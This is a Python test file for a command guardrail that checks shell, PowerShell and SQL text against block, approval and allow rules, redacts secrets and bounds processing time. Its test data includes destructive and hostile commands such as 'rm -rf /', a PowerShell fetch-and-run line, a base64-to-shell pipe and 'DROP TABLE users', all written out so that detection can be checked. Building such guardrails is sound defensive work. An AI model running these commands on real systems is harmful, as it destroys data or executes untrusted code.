"""How a text is read: by the tool's name, by its rule's words, within its bounds, and with what an explanation says of it."""

from __future__ import annotations

import pytest

from guardhouse.errors import LawFault
from guardhouse.guardrails import draw, load_packs
from guardhouse.guardrails.text import Examined
from tests.effort import within
from tests.guardrails.packs import FOLDER, shipped, verdict


def _rules(text: str, **context: str) -> set[str]:
    return {one.rule for one in shipped().examine((Examined("t", text, **context),))}  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("tool", "text", "rule"),
    [
        ("psql", "frob the ((database", "database.unread"),
        ("mcp__db__query", "frob the ((database", "database.unread"),
        ("PowerShell", "iex (iwr https://example.com/x.ps1)", "execution.fetch.shell"),
        ("PowerShell", "Remove-Item -Recurse -Force C:\\", "filesystem.delete.root"),
        ("Bash", "rm -rf /", "filesystem.delete.root"),
    ],
)
def test_a_tools_name_says_how_to_read_its_text(tool: str, text: str, rule: str) -> None:
    assert rule in _rules(text, tool=tool)


def test_what_a_tools_name_does_not_say_is_read_as_it_looks() -> None:
    assert _rules("DROP TABLE users", tool="frobnicate") == _rules("DROP TABLE users")
    assert "database.unread" not in _rules("frob the ((database", tool="frobnicate")
    assert _rules("# how to\nrm -rf /", tool="Write") == set()


def test_the_root_is_told_as_the_root_alone() -> None:
    for text in ("rm -rf /", "sudo rm -rf --no-preserve-root /", "cd / && rm -rf *", "rm -rf ~", "rm -rf /etc"):
        assert _rules(text) == {"filesystem.delete.root"}, text
    assert _rules("rm -rf .") == {"filesystem.delete.here"}
    assert _rules("rm -rf src") == {"filesystem.delete.tree"}
    assert _rules("rm -rf .git") == {"filesystem.delete.repository"}


def test_an_exception_for_one_path_excepts_no_other() -> None:
    assert verdict("rm -rf build") == "allow"
    for text in ("rm -rf build src", "rm -rf build ../other", "rm -rf node_modules /etc", "rm -rf /tmp/x ~"):
        assert verdict(text) in ("ask", "block"), text


@pytest.mark.parametrize("form", ["frob -a|b", "frob x|-y", "frob x !-a|b"])
def test_a_token_that_mixes_options_and_words_is_refused(form: str) -> None:
    rule = (
        "pack: p\ncategory: c\nrules:\n  - id: p.one\n    argv: '" + form + "'\n    severity: block\n"
        "    reason: r\n    must_match: ['frob -a', 'frob -y']\n    must_pass: [a, b]\n"
    )
    with pytest.raises(LawFault, match="mixes options and words"):
        load_packs({"guardrails/p.yaml": rule.encode()})


def test_every_alternative_is_said_in_the_callers_own_words() -> None:
    for text, said in (
        ("git push --force origin main", "git push --force-with-lease origin main"),
        ("kubectl -n x delete pod web", "kubectl get pod web -n x -o yaml"),
        ("terraform destroy", "terraform plan -destroy"),
        ("docker rm -f web", "docker ps -a"),
        ("pkill -f server", "pgrep -fl"),
        ("systemctl stop nginx", "systemctl status nginx"),
    ):
        texts = (Examined("t", text),)
        (one, *_) = shipped().explain(texts, shipped().examine(texts))
        assert said in one.alternative, (text, one.alternative)


def test_every_shipped_rule_says_why_and_what_instead() -> None:
    bare = [one.id for one in shipped().rules.values() if not one.reason or not one.alternative]
    assert bare == []
    assert len(shipped().rules) > 160


DRAWN = {
    "git reset --hard HEAD~1": """blocked[git.reset.hard]: Throws away uncommitted work without a way back.
 --> t:1:1
  |
1 | git reset --hard HEAD~1
  | ^^^^^^^^^^^^^^^^^^^^^^^
  = instead: git stash push --include-untracked, then git reset --keep HEAD~1
  = allowed by: trust 3 or more, or a person's grant
""",
    "sudo sh -c 'kubectl drain n1'": """needs approval[deployment.kubernetes.drain]: Takes a node out of service and moves or ends what runs on it.
 --> t:1:13
  |
1 | sudo sh -c 'kubectl drain n1'
  |             ^^^^^^^^^^^^^^^^
  = run by: sudo > sh -c
  = instead: kubectl get pods -A --field-selector spec.nodeName=n1
  = allowed by: trust 4 or more, or a person's grant
""",
    "git restore a.py": """warning[git.discard.file]: Takes back what was not committed in one file.
 --> t:1:1
  |
1 | git restore a.py
  | ^^^^^^^^^^^^^^^^
  = instead: git stash push -- a.py
""",
    'eval "$X"': """needs approval[execution.unknown.code]: Runs code that is put together while it runs.
 --> t:1:6
  |
1 | eval "$X"
  |      ^^^^
  = run by: eval
  = instead: write the command out
  = allowed by: trust 3 or more, or a person's grant
""",
    "ls -la": "nothing found\n",
}


@pytest.mark.parametrize("text", DRAWN)
def test_each_kind_of_verdict_is_drawn_like_this(text: str) -> None:
    texts = (Examined("t", text),)
    assert draw(shipped().explain(texts, shipped().examine(texts)), text) == DRAWN[text]


SECRETS = [
    "AKIA" + "IOSFODNN7EXAMPLE",
    "ghp_" + "a1" * 18,
    "glpat-" + "a1" * 10,
    "hf_" + "a" * 34,
    "hvs." + "a1" * 14,
    "xoxb-" + "1" * 12,
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTYifQ.abcdefghijklmnop",
    "postgres://app:hunter22@db.example.com/x",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIB0000\n",
]


@pytest.mark.parametrize("secret", SECRETS)
@pytest.mark.parametrize(
    "frame", ["curl -H 'X: {}' https://example.com", "echo {} > a", "{}", "# note: {}", "git commit -m '{}'"]
)
def test_a_secret_is_found_and_cut_wherever_it_stands(secret: str, frame: str) -> None:
    text = frame.format(secret)
    packs = shipped()
    texts = (Examined("t", text, "auto"), Examined("u", text, "prose"), Examined("v", text, "file"))
    findings = packs.examine(texts)
    assert {one.field for one in findings} == {"t", "u", "v"}
    kept = str(packs.redact({"command": text, text: [text]})) + str(packs.explain(texts, findings))
    assert secret not in kept
    assert "[redacted:" in kept


HOSTILE = [
    "[[ (", "a|", "|&", "&&a", "$(", "(", "{", "{a,b}", "{1..99}", "<<E ", "cat <<E\nx\nE\n", "if x; then ", "case x in ", "f() { f; }; f;",
    "eval ", "eval 'eval ", "sudo ", 'bash -c "', "sh -c 'x';", "xargs ", "find . -exec ", "ssh h ", "rm -rf a ", "git push -f ", "tar -I x ",
    "psql -c 'select 1';", "python3 -c 'import os' ;", "DELETE FROM a WHERE 1=1;", "DO $$ x $$;", "(SELECT 1),", "a=$a$a;", "x;y;", "`", "'", "${",
    "\n", "\t\n", " ", '\\"', "\\a", "--\n", "<<\nphp", "& [;", "system(", ".printf", "/* ", "=", "~x ",
]  # fmt: skip


@pytest.mark.parametrize("unit", HOSTILE)
def test_hostile_text_is_bounded_by_work(unit: str) -> None:
    """Ten times the promised 30 ms of processor time: a bound that only a change of order breaks, on any machine."""
    packs = shipped()
    for size in (8_000, 20_000):
        text = (unit * (size // len(unit) + 1))[:size]
        asked, found = (Examined("t", text),), []

        def examination(asked: tuple[Examined, ...] = asked, found: list[object] = found) -> None:
            packs._made.clear()
            found.append(packs.examine(asked))

        assert within(0.3, examination)
        examination()
        assert found[0] == found[-1]


def test_more_rules_of_other_programs_are_not_tried() -> None:
    files = {f"guardrails/{path.name}": path.read_bytes() for path in FOLDER.glob("*.yaml")}
    few = load_packs(files)
    more = dict(files)
    for number in range(3):
        for path, data in files.items():
            if b"\nrules:" in data and b"protects" not in data:
                more[path.replace(".yaml", f"-{number}.yaml")] = data.replace(b"  - id: ", b"  - id: x%d." % number)
    many = load_packs(more)
    assert len(many.rules) > 3 * len(few.rules)
    for program in ("git", "rm", "kubectl", "aws"):
        one, other = few._index.bucket(program), many._index.bucket(program)
        assert one is not None
        assert other is not None
        assert len(other.always) == len(one.always)
        assert {head: len(forms) for head, forms in other.behind.items()} == {
            head: len(forms) for head, forms in one.behind.items()
        }


@pytest.mark.parametrize(
    ("marked", "chain"),
    [
        ("bash <<EOF\nls\n«git push --force origin main»\nEOF", ("bash",)),
        ("cat <<'EOF' | bash\nécho ü\n«git push --force origin main»\nEOF\nls", ("bash",)),
        ("ssh host <<'EOF'\nüber\n«git push --force origin main»\nEOF", ("ssh",)),
        ("sudo bash <<'EOF'\ncd /srv\n«git push --force origin main»\nEOF\necho done", ("sudo", "bash")),
        ("bash -c 'bash -c \"«git push --force origin main»\"'", ("bash -c", "bash -c")),
        ("echo git push --force origin main; «git push --force origin main»", ()),
        ("bash <<< '«git push --force origin main»'", ("bash",)),
    ],
)
def test_a_finding_points_at_the_command_in_the_text_and_tells_what_runs_it(
    marked: str, chain: tuple[str, ...]
) -> None:
    start, end = marked.index("«"), marked.index("»") - 1
    text = marked.replace("«", "").replace("»", "")
    texts = (Examined("t", text),)
    findings = [one for one in shipped().examine(texts) if one.rule == "git.push.force"]
    assert [(one.start, one.end) for one in findings] == [(start, end)]
    (told,) = (one for one in shipped().explain(texts, findings) if one.rule == "git.push.force")
    assert (told.matched_text, told.via) == ("git push --force origin main", chain)


SLOW = [
    ("! ", "cat <<E\n{}\nE\n"), ("! ", "rm -rf {{{}}}"), (")", "{}"), ("[a]", "ssh h '{}'"), ("= ", 'psql -c "{}"'), ("a.", 'psql -c "{}"'), ("&#", "{}"),
    ("&<<E ", "x=$({})"), ("&\\\n", "sudo {}"), ("/*<<E ", "ssh h '{}'"), ("a&&&", "sudo {}"), ("`tar xf a;", "pwsh -c '{}'"), ("! `", "cat <<E | bash\n{}\nE\n"),
    ("[a]-----BEGIN RSA PRIVATE KEY-----\n", "{}"), ("2>&1 UPDATE a SET b=(SELECT ", "echo '{}' | sh"), ("awk '{print}' ", "bash -c '{}'"),
    ("awk '{print}' .claude/settings.json ", "{}"), ("$*echo aGk= | base64 -d | sh;", "pwsh -c '{}'"), ("a\n", "python3 -c '{}'"), ("`", "cat <<E | bash\n{}\nE\n"),
    ("psql -c 'delete from a where b=1 or not c=2 or d=e';", "{}"), ("psql -c 'select abc, def from t join u on a=b';", "{}"),
    ("delete from a where b=1 or not c=2 or d=e or f=g or h=i or j=k;", "psql -c '{}'"),
    ("\\a", "python3 -c 'os.system(\"{}'"), ("\\a", "awk 'BEGIN{{system(\"{}'"), ("\\a", "sed 's/{}'"), ("\\a", "vim -c ':call system(\"{}'"),
    ("\\a", "perl -e '`{}'"), ("\\a", "node -e 'f([\"{}'"), ('\\"', "python3 -c 'import os;{}'"), ('\\"', "node -e 'x.execute({}'"),
    ("\t\n", "for i in {}; do rm $i; done"), ("\\\n\n", "f() {{ {}; }}; f"), ("<<\nphp", "{}"), (".printf", "awk '{}'"), ("& [;", "cat <<E | bash\n{}\nE\n"),
    ("~/.claude/settings.json;os.system(x+=y;? http://a", "perl -e '{}'"),
    ("rm ${x%%*b};", "x=" + "a" * 240 + "; {}"), ("rm ${x%*a*b};", "x=" + "a" * 240 + "; {}"), ("rm ${x//*a*b/c};", "x=" + "a" * 240 + "; {}"),
    ("\n", "sed '{}'"), ("\n", "sed '/e;{}'"), ("s/", "sed '/e;\n{}'"), ("\n", "pwsh -c '{}'"), ("\n", "psql -c '{}'"), ("\n", "vim -c '{}'"), ("1\n", "vim -c '{}'"),
]  # fmt: skip
"""The slowest of some 20,000 repeated units and pairs of units in fifteen frames, as they were before work was bounded.

The last twenty-four took from 50 ms to longer than anyone would wait: texts without an end, and lines without a letter.
"""


def _bounded(text: str, *kind: str) -> tuple[bool, set[str]]:
    """Whether an examination takes less than three times the promised 30 ms of processor time, and the rules that it found."""
    packs, rules = shipped(), set[str]()

    def examination() -> None:
        packs._made.clear()
        rules.update(one.rule for one in packs.examine((Examined("t", text, *kind),)))

    return within(0.09, examination), rules


@pytest.mark.parametrize(("unit", "frame"), SLOW)
def test_no_repeated_text_takes_long_to_read(unit: str, frame: str) -> None:
    """Half of these took more than the promised 30 ms."""
    assert _bounded(frame.format(unit * (7_900 // len(unit))))[0]


@pytest.mark.parametrize("unit", ["\n", "\n ", "--\n", "/* ", "a\n", "'", "\\!\n"])
def test_no_repeated_sql_takes_long_to_read(unit: str) -> None:
    """Empty lines took 2.2 seconds."""
    assert _bounded("SELECT 1;" + unit * (15_900 // len(unit)), "sql")[0]


@pytest.mark.parametrize(
    "unit",
    [
        "delete from a where b=1 or not c=2 or d=e or f=g or (h=i and j=k) or l<m or n>o;",
        "delete from a where b=1 or not c=2;",
        "DO $$ BEGIN EXECUTE 'delete from a where b=1 or not c=2 or d=e'; END $$;",
    ],
)
def test_conditions_of_sql_are_worked_out_within_one_budget(unit: str) -> None:
    """The first took 103 ms."""
    bounded, rules = _bounded(unit * (4_000 // len(unit)), "sql")
    assert bounded
    assert rules & {"execution.unknown.text", "database.unbounded"}


@pytest.mark.parametrize(
    "text",
    [
        "USE prod; DROP TABLE users;",
        "SET statement_timeout = 0;\nDROP TABLE users;\n",
        "START TRANSACTION; DELETE FROM users; COMMIT",
        "BEGIN TRANSACTION; DELETE FROM users; COMMIT",
        "LOCK TABLE users; DELETE FROM users;",
        "PRAGMA foreign_keys=OFF; DROP TABLE users",
        "; DELETE FROM users",
        "(DELETE FROM users)",
        "UPDATE users u SET admin = true",
        "UPDATE users AS u SET admin = true",
        "UPDATE ONLY users SET admin = true",
        "UPDATE OR IGNORE users SET admin = true",
        "WITH RECURSIVE a (x) AS (SELECT 1) DELETE FROM users",
        "DROP /* " + "why " * 200 + "*/ TABLE users",
        "SHUTDOWN;",
        "SHUTDOWN WITH NOWAIT",
    ],
)
def test_sql_without_a_tool_is_read_as_sql_wherever_its_verb_stands(text: str) -> None:
    assert verdict(text) == "block", _rules(text)


@pytest.mark.parametrize(
    "text",
    [
        "shutdown --help",
        "USE prod; SELECT 1;",
        "START TRANSACTION; UPDATE users SET a = 1 WHERE id = 2; COMMIT",
        "UPDATE ONLY users SET a = 1 WHERE id = 2",
        "UPDATE users u SET a = 1 WHERE u.id = 2",
        "echo 'USE prod; DROP TABLE users;'",
        "cat > a.sql <<'E'\nUSE prod;\nDROP TABLE users;\nE",
        "git commit -m 'DROP TABLE users'",
        "update-alternatives --list editor; delete-me --dry-run",
    ],
)
def test_what_only_names_sql_or_bounds_it_passes(text: str) -> None:
    assert verdict(text) == "allow", _rules(text)


def test_an_ordinary_script_is_read_whole() -> None:
    """What bounds hostile text must not cut off a long one."""
    step = 'if [ -f "$f" ]; then\n  for x in a b; do echo "${x:-y}" >> out.txt; done\nfi\ncat <<EOF\n`date` $x\nEOF\n'
    text = "#!/bin/bash\nset -euo pipefail\n" + step * (5_900 // len(step))
    assert len(text) > 5_500
    assert shipped().examine((Examined("t", text),)) == ()
